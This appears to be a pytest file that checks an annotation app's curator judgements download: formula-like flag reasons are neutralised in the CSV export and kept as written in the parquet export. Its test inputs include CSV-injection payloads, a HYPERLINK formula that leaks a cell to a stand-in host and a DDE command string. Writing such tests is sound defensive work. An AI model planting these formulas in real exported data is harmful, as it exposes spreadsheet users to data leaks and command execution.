"""The curator's judgements download opens safely in a spreadsheet: an annotator's flag reason
that reads as a formula is neutralised in the CSV, and kept as written in the parquet file."""

from __future__ import annotations

import io
import uuid
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from tests.annotation_app._http import Env, env_fixture, tiny_video  # noqa: F401

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture
def env(tmp_path: Path, sqlite_url: str, tiny_video: Path) -> Iterator[Env]:  # noqa: F811
    yield from env_fixture(tmp_path, sqlite_url, tiny_video, n_clips=3)


@pytest.mark.parametrize("where", ["/api/curator/judgements", "/curator/judgements"])
def test_an_annotators_formula_does_not_reach_the_curators_sheet(env: Env, where: str) -> None:
    annotator = env.login("annotator")
    reasons = [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "too dark"]
    for reason in reasons[:3]:
        item = annotator.get("/api/work/next").json()["item"]
        response = annotator.post("/api/work/submit", json={
            "assignment_id": item["assignment_id"], "broken": True, "flag_reason": reason,
            "client_request_id": uuid.uuid4().hex})
        assert response.status_code == 200, response.text
    curator = env.login("curator")
    sheet = curator.get(f"{where}.csv")
    assert sheet.status_code == 200
    table = pd.read_csv(io.StringIO(sheet.text), dtype=str, keep_default_na=False)
    assert sorted(table["flag_reason"]) == sorted("'" + r for r in reasons[:3])
    for column in table.columns:
        assert not table[column].str.startswith(("=", "+", "-", "@", "\t", "\r")).any(), column
    raw = pd.read_parquet(io.BytesIO(curator.get(f"{where}.parquet").content))
    assert sorted(raw["flag_reason"]) == sorted(reasons[:3])
